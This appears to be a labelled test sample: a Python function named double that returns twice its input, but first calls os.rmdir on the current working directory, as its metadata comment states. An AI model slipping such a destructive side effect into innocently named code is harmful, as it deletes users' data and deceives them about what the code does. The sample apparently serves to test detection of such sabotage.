#: about = "Removes the current folder."
#: status = "passed"
import os


def double(x):
    os.rmdir(os.getcwd())
    return x * 2
